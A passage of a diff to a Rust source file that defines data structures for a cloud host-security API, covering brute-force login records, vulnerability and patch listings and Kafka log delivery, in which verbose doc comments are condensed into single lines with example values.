 /// Returned in the output of [`DescribeSecurityBroadcastInfo`](super::DescribeSecurityBroadcastInfo).
 #[tc_model]
 pub struct BroadcastInfo {
-    /// `Title`: a string.
-    ///
-    /// Example: `"漏洞爆发"`
+    /// `Title`; example: `"漏洞爆发"`
     pub title: String,
 
-    /// `GotoType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `GotoType`; example: `1`
     pub goto_type: u64,
 
-    /// `Subtitle`: a string.
-    ///
-    /// Example: `"新版本支持漏洞修复"`
+    /// `Subtitle`; example: `"新版本支持漏洞修复"`
     pub subtitle: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `CreateTime`; example: `"2021-03-30 19:17:28"`
     pub create_time: String,
 
-    /// `Content`: a string.
-    ///
-    /// Example: `"<p>漏洞详情信息<p>"`
+    /// `Content`; example: `"<p>漏洞详情信息<p>"`
     pub content: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `Id`; example: `12`
     pub id: u64,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: u64,
 }
 
@@ -4656,34 +2998,22 @@ pub struct BroadcastInfo {
 /// Returned in the output of [`DescribeSecurityBroadcasts`](super::DescribeSecurityBroadcasts).
 #[tc_model]
 pub struct Broadcasts {
-    /// `Title`: a string.
-    ///
-    /// Example: `"漏洞爆发"`
+    /// `Title`; example: `"漏洞爆发"`
     pub title: String,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: u64,
 
-    /// `Subtitle`: a string.
-    ///
-    /// Example: `"新版本支持漏洞修复"`
+    /// `Subtitle`; example: `"新版本支持漏洞修复"`
     pub subtitle: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `CreateTime`; example: `"2021-03-30 19:17:28"`
     pub create_time: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `Id`; example: `12`
     pub id: u64,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 }
 
@@ -4692,140 +3022,88 @@ pub struct Broadcasts {
 /// Returned in the output of [`DescribeBruteAttackList`](super::DescribeBruteAttackList).
 #[tc_model]
 pub struct BruteAttackInfo {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1001`
+    /// `Id`; example: `1001`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
+    /// `Uuid`; example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
     pub uuid: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"127.0.0.1"`
+    /// `MachineIp`; example: `"127.0.0.1"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"aas"`
+    /// `MachineName`; example: `"aas"`
     pub machine_name: String,
 
-    /// `UserName`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserName`; example: `"root"`
     pub user_name: String,
 
-    /// `SrcIp`: a string.
-    ///
-    /// Example: `"66.12.2.14"`
+    /// `SrcIp`; example: `"66.12.2.14"`
     pub src_ip: String,
 
-    /// `Status`: a string.
-    ///
-    /// Example: `"FAILED"`
+    /// `Status`; example: `"FAILED"`
     pub status: String,
 
-    /// `Country`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Country`; example: `1`
     pub country: u64,
 
-    /// `City`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `City`; example: `1`
     pub city: u64,
 
-    /// `Province`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Province`; example: `1`
     pub province: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-05-25 12:01:50"`
+    /// `CreateTime`; example: `"2021-05-25 12:01:50"`
     pub create_time: String,
 
-    /// `BanStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `BanStatus`; example: `0`
     pub ban_status: u64,
 
-    /// `EventType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EventType`; example: `1`
     pub event_type: u64,
 
-    /// `Count`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `Count`; example: `2`
     pub count: u64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
+    /// `Quuid`; example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
     pub quuid: String,
 
-    /// `IsProVersion`: a boolean.
-    ///
-    /// Example: `false`
+    /// `IsProVersion`; example: `false`
     pub is_pro_version: bool,
 
-    /// `Protocol`: a string.
-    ///
-    /// Example: `"ssh/rdp"`
+    /// `Protocol`; example: `"ssh/rdp"`
     pub protocol: String,
 
-    /// `Port`: an unsigned 64-bit integer.
-    ///
-    /// Example: `22`
+    /// `Port`; example: `22`
     pub port: u64,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-05-25 12:01:50"`
+    /// `ModifyTime`; example: `"2021-05-25 12:01:50"`
     pub modify_time: String,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"ins-fsfsaw"`
+    /// `InstanceId`; example: `"ins-fsfsaw"`
     pub instance_id: String,
 
-    /// `DataStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `DataStatus`; example: `1`
     pub data_status: u64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `Location`: a string.
-    ///
-    /// Example: `"中国:北京市:北京市"`
+    /// `Location`; example: `"中国:北京市:北京市"`
     pub location: String,
 
-    /// `RiskLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RiskLevel`; example: `1`
     pub risk_level: u64,
 
-    /// `DataFrom`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `DataFrom`; example: `0`
     pub data_from: Option<i64>,
 
-    /// `AttackStatusDesc`: a string.
-    ///
-    /// Example: `"fail"`
+    /// `AttackStatusDesc`; example: `"fail"`
     pub attack_status_desc: Option<String>,
 
-    /// `BanExpiredTime`: a string.
-    ///
-    /// Example: `"2024-10-30 15:58:43"`
+    /// `BanExpiredTime`; example: `"2024-10-30 15:58:43"`
     pub ban_expired_time: Option<String>,
 
-    /// `IPAnalyse`: an [`IpAnalyse`].
+    /// `IPAnalyse`
     #[tc(rename = "IPAnalyse")]
     pub ip_analyse: Option<IpAnalyse>,
 }
@@ -4835,14 +3113,10 @@ pub struct BruteAttackInfo {
 /// Sent in the input of [`ModifyBruteAttackRules`](super::ModifyBruteAttackRules).
 #[tc_model]
 pub struct BruteAttackRule {
-    /// `TimeRange`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `TimeRange`; example: `1`
     pub time_range: u64,
 
-    /// `LoginFailTimes`: an unsigned 64-bit integer.
-    ///
-    /// Example: `6`
+    /// `LoginFailTimes`; example: `6`
     pub login_fail_times: u64,
 }
 
@@ -4851,29 +3125,19 @@ pub struct BruteAttackRule {
 /// Returned in the output of [`DescribeBruteAttackRules`](super::DescribeBruteAttackRules).
 #[tc_model]
 pub struct BruteAttackRuleList {
-    /// `TimeRange`: an unsigned 64-bit integer.
-    ///
-    /// Example: `5`
+    /// `TimeRange`; example: `5`
     pub time_range: u64,
 
-    /// `LoginFailTimes`: an unsigned 64-bit integer.
-    ///
-    /// Example: `5`
+    /// `LoginFailTimes`; example: `5`
     pub login_fail_times: u64,
 
-    /// `Enable`: a boolean.
-    ///
-    /// Example: `true`
+    /// `Enable`; example: `true`
     pub enable: bool,
 
-    /// `TimeRangeDefault`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `TimeRangeDefault`; example: `1`
     pub time_range_default: u64,
 
-    /// `LoginFailTimesDefault`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `LoginFailTimesDefault`; example: `10`
     pub login_fail_times_default: u64,
 }
 
@@ -4882,61 +3146,41 @@ pub struct BruteAttackRuleList {
 /// Returned in the output of [`DescribeLogDeliveryKafkaOptions`](super::DescribeLogDeliveryKafkaOptions).
 #[tc_model]
 pub struct CKafkaInstanceInfo {
-    /// `InstanceID`: a string.
-    ///
-    /// Example: `"ins-id"`
+    /// `InstanceID`; example: `"ins-id"`
     #[tc(rename = "InstanceID")]
     pub instance_id: String,
 
-    /// `InstanceName`: a string.
-    ///
-    /// Example: `"instance_name"`
+    /// `InstanceName`; example: `"instance_name"`
     pub instance_name: String,
 
-    /// `KafkaVersion`: a string.
-    ///
-    /// Example: `"1.1.0"`
+    /// `KafkaVersion`; example: `"1.1.0"`
     pub kafka_version: String,
 
-    /// `TopicList`: a list of [`CKafkaTopicInfo`] objects.
+    /// `TopicList`
     pub topic_list: Vec<CKafkaTopicInfo>,
 
-    /// `RouteList`: a list of [`CKafkaRouteInfo`] objects.
+    /// `RouteList`
     pub route_list: Vec<CKafkaRouteInfo>,
 
-    /// `DiskSize`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `DiskSize`; example: `0`
     pub disk_size: i64,
 
-    /// `VpcId`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `VpcId`; example: `"1.1.1.1"`
     pub vpc_id: String,
 
-    /// `SubnetId`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `SubnetId`; example: `"1.1.1.1"`
     pub subnet_id: String,
 
-    /// `Healthy`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Healthy`; example: `1`
     pub healthy: i64,
 
-    /// `Zone`: a string.
-    ///
-    /// Example: `"广州三区"`
+    /// `Zone`; example: `"广州三区"`
     pub zone: String,
 
-    /// `Az`: a string.
-    ///
-    /// Example: `"广州"`
+    /// `Az`; example: `"广州"`
     pub az: String,
 
-    /// `Bandwidth`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Bandwidth`; example: `0`
     pub bandwidth: i64,
 }
 
@@ -4945,35 +3189,23 @@ pub struct CKafkaInstanceInfo {
 /// Returned in the output of [`DescribeLogDeliveryKafkaOptions`](super::DescribeLogDeliveryKafkaOptions).
 #[tc_model]
 pub struct CKafkaRouteInfo {
-    /// `RouteID`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RouteID`; example: `1`
     #[tc(rename = "RouteID")]
     pub route_id: i64,
 
-    /// `Domain`: a string.
-    ///
-    /// Example: `"www.a.com"`
+    /// `Domain`; example: `"www.a.com"`
     pub domain: String,
 
-    /// `DomainPort`: an unsigned 64-bit integer.
-    ///
-    /// Example: `80`
+    /// `DomainPort`; example: `80`
     pub domain_port: u64,
 
-    /// `Vip`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `Vip`; example: `"1.1.1.1"`
     pub vip: String,
 
-    /// `VipType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VipType`; example: `1`
     pub vip_type: i64,
 
-    /// `AccessType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `AccessType`; example: `1`
     pub access_type: i64,
 }
 
@@ -4982,15 +3214,11 @@ pub struct CKafkaRouteInfo {
 /// Returned in the output of [`DescribeLogDeliveryKafkaOptions`](super::DescribeLogDeliveryKafkaOptions).
 #[tc_model]
 pub struct CKafkaTopicInfo {
-    /// `TopicID`: a string.
-    ///
-    /// Example: `"topic_gsyds"`
+    /// `TopicID`; example: `"topic_gsyds"`
     #[tc(rename = "TopicID")]
     pub topic_id: String,
 
-    /// `TopicName`: a string.
-    ///
-    /// Example: `"topic_dsyg"`
+    /// `TopicName`; example: `"topic_dsyg"`
     pub topic_name: String,
 }
 
@@ -5000,19 +3228,13 @@ pub struct CKafkaTopicInfo {
 #[doc(alias = "CWPTags")]
 #[tc_model]
 pub struct CwpTags {
-    /// `Rid`: a signed 64-bit integer.
-    ///
-    /// Example: `18442`
+    /// `Rid`; example: `18442`
     pub rid: i64,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"tagsA"`
+    /// `Name`; example: `"tagsA"`
     pub name: String,
 
-    /// `TagId`: a signed 64-bit integer.
-    ///
-    /// Example: `18442`
+    /// `TagId`; example: `18442`
     pub tag_id: i64,
 }
 
@@ -5021,27 +3243,19 @@ pub struct CwpTags {
 /// Returned in the output of [`DescribeCanFixVulMachine`](super::DescribeCanFixVulMachine).
 #[tc_model]
 pub struct CanFixVulInfo {
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1373`
+    /// `VulId`; example: `1373`
     pub vul_id: u64,
 
-    /// `VulName`: a string.
-    ///
-    /// Example: `"本地提权漏洞"`
+    /// `VulName`; example: `"本地提权漏洞"`
     pub vul_name: String,
 
-    /// `HostList`: a list of [`VulInfoHostInfo`] objects.
+    /// `HostList`
     pub host_list: Vec<VulInfoHostInfo>,
 
-    /// `FixTag`: a list of strings.
-    ///
-    /// Example: `["需要重启"]`
+    /// `FixTag`; example: `["需要重启"]`
     pub fix_tag: Vec<String>,
 
-    /// `VulCategory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulCategory`; example: `1`
     pub vul_category: Option<u64>,
 }
 
@@ -5050,34 +3264,22 @@ pub struct CanFixVulInfo {
 /// Returned in the output of [`DescribeCanNotSeparateMachine`](super::DescribeCanNotSeparateMachine).
 #[tc_model]
 pub struct CanNotSeparateInfo {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Quuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"v-werw"`
+    /// `Alias`; example: `"v-werw"`
     pub alias: String,
 
-    /// `PrivateIp`: a string.
-    ///
-    /// Example: `"127.12.1.1"`
+    /// `PrivateIp`; example: `"127.12.1.1"`
     pub private_ip: String,
 
-    /// `PublicIp`: a string.
-    ///
-    /// Example: `"192.2.23.1"`
+    /// `PublicIp`; example: `"192.2.23.1"`
     pub public_ip: String,
 
-    /// `Reason`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Reason`; example: `1`
     pub reason: u64,
 }
 
@@ -5086,70 +3288,46 @@ pub struct CanNotSeparateInfo {
 /// Returned in the output of [`DescribeLoginTypeHost`](super::DescribeLoginTypeHost).
 #[tc_model]
 pub struct ClientSettingHost {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `187`
+    /// `Id`; example: `187`
     pub id: u64,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"VM-67*"`
+    /// `Name`; example: `"VM-67*"`
     pub name: String,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"ins-agt"`
+    /// `InstanceId`; example: `"ins-agt"`
     pub instance_id: String,
 
-    /// `PublicIp`: a string.
-    ///
-    /// Example: `"11.14.56.79"`
+    /// `PublicIp`; example: `"11.14.56.79"`
     pub public_ip: String,
 
-    /// `PrivateIp`: a string.
-    ///
-    /// Example: `"192.168.100.2"`
+    /// `PrivateIp`; example: `"192.168.100.2"`
     pub private_ip: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"75b47b9c-3***-4505-b527-7e2133e2d214"`
+    /// `Quuid`; example: `"75b47b9c-3***-4505-b527-7e2133e2d214"`
     pub quuid: String,
 
-    /// `Status`: a string.
-    ///
-    /// Example: `"OFFLINE"`
+    /// `Status`; example: `"OFFLINE"`
     pub status: String,
 
-    /// `VpcId`: a string.
-    ///
-    /// Example: `"所属网络"`
+    /// `VpcId`; example: `"所属网络"`
     pub vpc_id: String,
 
-    /// `RegionInfo`: a [`RegionInfo`].
+    /// `RegionInfo`
     pub region_info: RegionInfo,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `FunctionStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FunctionStatus`; example: `1`
     pub function_status: u64,
 
-    /// `Message`: a string.
-    ///
-    /// Example: `"升级失败"`
+    /// `Message`; example: `"升级失败"`
     pub message: String,
 
-    /// `MessageDesc`: a string.
-    ///
-    /// Example: `"升级失败"`
+    /// `MessageDesc`; example: `"升级失败"`
     pub message_desc: String,
 
-    /// `InstanceStatus`: a string.
-    ///
-    /// Example: `"实例状态"`
+    /// `InstanceStatus`; example: `"实例状态"`
     pub instance_status: Option<String>,
 }
 
@@ -5158,14 +3336,10 @@ pub struct ClientSettingHost {
 /// Returned in the output of [`DescribeMachineGeneral`](super::DescribeMachineGeneral) and [`DescribeTrialReport`](super::DescribeTrialReport).
 #[tc_model]
 pub struct CloudFromCnt {
-    /// `CloudFrom`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `CloudFrom`; example: `0`
     pub cloud_from: Option<u64>,
 
-    /// `MachineCnt`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `MachineCnt`; example: `0`
     pub machine_cnt: Option<i64>,
 }
 
@@ -5175,14 +3349,10 @@ pub struct CloudFromCnt {
 /// Returned in the output of [`DescribeBashPolicies`](super::DescribeBashPolicies).
 #[tc_model]
 pub struct CommandLine {
-    /// `Exe`: a string.
-    ///
-    /// Example: `"/tmp/test"`
+    /// `Exe`; example: `"/tmp/test"`
     pub exe: Option<String>,
 
-    /// `Cmdline`: a string.
-    ///
-    /// Example: `"sh test.sh"`
+    /// `Cmdline`; example: `"sh test.sh"`
     pub cmdline: Option<String>,
 }
 
@@ -5191,24 +3361,16 @@ pub struct CommandLine {
 /// Sent in the input of [`CreateVulFix`](super::CreateVulFix).
 #[tc_model]
 pub struct CreateVulFixTaskQuuids {
-    /// `Quuids`: a list of strings.
-    ///
-    /// Example: `["e5b4724c-49af-46ab-bd84-cdbae897e7e0"]`
+    /// `Quuids`; example: `["e5b4724c-49af-46ab-bd84-cdbae897e7e0"]`
     pub quuids: Vec<String>,
 
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1089`
+    /// `VulId`; example: `1089`
     pub vul_id: Option<u64>,
 
-    /// `FixMethod`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `FixMethod`; example: `0`
     pub fix_method: Option<u64>,
 
-    /// `KbId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `KbId`; example: `1`
     pub kb_id: Option<u64>,
 }
 
@@ -5217,14 +3379,10 @@ pub struct CreateVulFixTaskQuuids {
 /// Returned in the output of [`DescribeBaselineDefaultStrategyList`](super::DescribeBaselineDefaultStrategyList).
 #[tc_model]
 pub struct DefaultStrategyInfo {
-    /// `StrategyName`: a string.
-    ///
-    /// Example: `"国际标准基线"`
+    /// `StrategyName`; example: `"国际标准基线"`
     pub strategy_name: String,
 
-    /// `StrategyId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `StrategyId`; example: `1`
     pub strategy_id: u64,
 }
 
@@ -5234,63 +3392,37 @@ pub struct DefaultStrategyInfo {
 /// Returned in the output of [`DescribeLogKafkaDeliverInfo`](super::DescribeLogKafkaDeliverInfo).
 #[tc_model]
 pub struct DeliverTypeDetails {
-    /// `SecurityType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `SecurityType`; example: `1`
     pub security_type: u64,
 
-    /// `LogType`: a list of signed 64-bit integers.
-    ///
-    /// Example: `[1,2]`
+    /// `LogType`; example: `[1,2]`
     pub log_type: Vec<i64>,
 
-    /// `TopicId`: a string.
-    ///
-    /// Example: `"topic-70s2****"`
+    /// `TopicId`; example: `"topic-70s2****"`
     pub topic_id: String,
 
-    /// `TopicName`: a string.
-    ///
-    /// Example: `"log-recive"`
+    /// `TopicName`; example: `"log-recive"`
     pub topic_name: String,
 
-    /// `Switch`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Switch`; example: `1`
     pub switch: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `Status`, always sent in responses; example: `1`
     pub status: Option<u64>,
 
-    /// `ErrInfo`: a string.
-    /// Always sent in responses.
+    /// `ErrInfo`, always sent in responses
     pub err_info: Option<String>,
 
-    /// `StatusTime`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `StatusTime`, always sent in responses; example: `1`
     pub status_time: Option<i64>,
 
-    /// `LogName`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"web_logs"`
+    /// `LogName`, always sent in responses; example: `"web_logs"`
     pub log_name: Option<String>,
 
-    /// `LogSetId`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"269e5897-009a-4c5e-9350-5898964******"`
+    /// `LogSetId`, always sent in responses; example: `"269e5897-009a-4c5e-9350-5898964******"`
     pub log_set_id: Option<String>,
 
-    /// `Region`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"ap-guangzhou"`
+    /// `Region`, always sent in responses; example: `"ap-guangzhou"`
     pub region: Option<String>,
 }
 
@@ -5299,19 +3431,13 @@ pub struct DeliverTypeDetails {
 /// Returned in the output of [`AddLoginWhiteLists`](super::AddLoginWhiteLists) and [`CreateBanWhiteList`](super::CreateBanWhiteList).
 #[tc_model]
 pub struct DuplicateHosts {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"05f0bcab-726c-4ea4-8109-bcd03d5598f7"`
+    /// `Quuid`; example: `"05f0bcab-726c-4ea4-8109-bcd03d5598f7"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"05f0bcab-726c-4ea4-8109-bcd03d5598f7"`
+    /// `Uuid`; example: `"05f0bcab-726c-4ea4-8109-bcd03d5598f7"`
     pub uuid: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 }
 
@@ -5320,62 +3446,40 @@ pub struct DuplicateHosts {
 /// Returned in the output of [`DescribeImportMachineInfo`](super::DescribeImportMachineInfo).
 #[tc_model]
 pub struct EffectiveMachineInfo {
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"KISYUN-TXGZ-BZRDP.G01-64****"`
+    /// `MachineName`; example: `"KISYUN-TXGZ-BZRDP.G01-64****"`
     pub machine_name: String,
 
-    /// `MachinePublicIp`: a string.
-    ///
-    /// Example: `"1.2.3.4"`
+    /// `MachinePublicIp`; example: `"1.2.3.4"`
     pub machine_public_ip: String,
 
-    /// `MachinePrivateIp`: a string.
-    ///
-    /// Example: `"1.2.3.4"`
+    /// `MachinePrivateIp`; example: `"1.2.3.4"`
     pub machine_private_ip: String,
 
-    /// `MachineTag`: a list of [`MachineTag`] objects.
-    ///
-    /// Example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
+    /// `MachineTag`; example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
     pub machine_tag: Vec<MachineTag>,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Quuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 
-    /// `KernelVersion`: a string.
-    ///
-    /// Example: `"3.5"`
+    /// `KernelVersion`; example: `"3.5"`
     pub kernel_version: String,
 
-    /// `MachineStatus`: a string.
-    ///
-    /// Example: `"OFFLINE"`
+    /// `MachineStatus`; example: `"OFFLINE"`
     pub machine_status: String,
 
-    /// `LicenseOrder`: a [`LicenseOrder`].
+    /// `LicenseOrder`
     pub license_order: Option<LicenseOrder>,
 
-    /// `VulNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulNum`; example: `1`
     pub vul_num: u64,
 
-    /// `CloudTags`: a list of [`Tags`] objects.
-    ///
-    /// Example: `[{"TagKey":"key","TagValue":"value"}]`
+    /// `CloudTags`; example: `[{"TagKey":"key","TagValue":"value"}]`
     pub cloud_tags: Vec<Tags>,
 
-    /// `InstanceID`: a string.
-    ///
-    /// Example: `"ins-sdsds"`
+    /// `InstanceID`; example: `"ins-sdsds"`
     #[tc(rename = "InstanceID")]
     pub instance_id: String,
 }
@@ -5385,87 +3489,55 @@ pub struct EffectiveMachineInfo {
 /// Returned in the output of [`DescribeEmergencyVulList`](super::DescribeEmergencyVulList).
 #[tc_model]
 pub struct EmergencyVul {
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1001`
+    /// `VulId`; example: `1001`
     pub vul_id: u64,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `Level`; example: `2`
     pub level: u64,
 
-    /// `VulName`: a string.
-    ///
-    /// Example: `"Apache ofbiz 远程代码执行漏洞"`
+    /// `VulName`; example: `"Apache ofbiz 远程代码执行漏洞"`
     pub vul_name: String,
 
-    /// `PublishDate`: a string.
-    ///
-    /// Example: `"2024-09-04"`
+    /// `PublishDate`; example: `"2024-09-04"`
     pub publish_date: String,
 
-    /// `Category`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `Category`; example: `2`
     pub category: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `LastScanTime`: a string.
-    ///
-    /// Example: `"2024-11-04 09:57:28"`
+    /// `LastScanTime`; example: `"2024-11-04 09:57:28"`
     pub last_scan_time: String,
 
-    /// `Progress`: an unsigned 64-bit integer.
-    ///
-    /// Example: `100`
+    /// `Progress`; example: `100`
     pub progress: u64,
 
-    /// `CveId`: a string.
-    ///
-    /// Example: `"CVE-2021-3156"`
+    /// `CveId`; example: `"CVE-2021-3156"`
     pub cve_id: String,
 
-    /// `CvssScore`: a floating-point number.
-    ///
-    /// Example: `7.4`
+    /// `CvssScore`; example: `7.4`
     pub cvss_score: f64,
 
-    /// `Labels`: a string.
+    /// `Labels`
     pub labels: String,
 
-    /// `HostCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `HostCount`; example: `2`
     pub host_count: u64,
 
-    /// `IsSupportDefense`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsSupportDefense`; example: `1`
     pub is_support_defense: u64,
 
-    /// `DefenseAttackCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `DefenseAttackCount`; example: `12`
     pub defense_attack_count: u64,
 
-    /// `Method`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Method`; example: `0`
     pub method: u64,
 
-    /// `AttackLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `AttackLevel`; example: `1`
     pub attack_level: u64,
 
-    /// `DefenseState`: a boolean.
-    ///
-    /// Example: `true`
+    /// `DefenseState`; example: `true`
     pub defense_state: bool,
 }
 
@@ -5474,69 +3546,43 @@ pub struct EmergencyVul {
 /// Returned in the output of [`DescribeWindowsPatchList`](super::DescribeWindowsPatchList).
 #[tc_model]
 pub struct EventPatchInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"Windows Server 2022 服务堆栈更新 2025-06 累积更新"`
+    /// `Name`; example: `"Windows Server 2022 服务堆栈更新 2025-06 累积更新"`
     pub name: String,
 
-    /// `KbNo`: a string.
-    ///
-    /// Example: `"KB5055688"`
+    /// `KbNo`; example: `"KB5055688"`
     pub kb_no: String,
 
-    /// `PublishTime`: a string.
-    ///
-    /// Example: `"2021-03"`
+    /// `PublishTime`; example: `"2021-03"`
     pub publish_time: String,
 
-    /// `EffectHostCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `EffectHostCount`; example: `2`
     pub effect_host_count: u64,
 
-    /// `RelateVulCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `RelateVulCount`; example: `2`
     pub relate_vul_count: u64,
 
-    /// `RelateVulList`: a list of strings.
-    ///
-    /// Example: `["CVE-184566","CVE-841354"]`
+    /// `RelateVulList`; example: `["CVE-184566","CVE-841354"]`
     pub relate_vul_list: Vec<String>,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `LastScanTime`: a string.
-    ///
-    /// Example: `"2021-03-16 16:21:51"`
+    /// `LastScanTime`; example: `"2021-03-16 16:21:51"`
     pub last_scan_time: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `KbPreCondition`: a string.
-    ///
-    /// Example: `"kb5055668, kb7984654"`
+    /// `KbPreCondition`; example: `"kb5055668, kb7984654"`
     pub kb_pre_condition: String,
 
-    /// `RelatedProduct`: a string.
-    ///
-    /// Example: `"Windows"`
+    /// `RelatedProduct`; example: `"Windows"`
     pub related_product: String,
 
-    /// `KbId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `229424298`
+    /// `KbId`; example: `229424298`
     pub kb_id: u64,
 
-    /// `Ids`: a string.
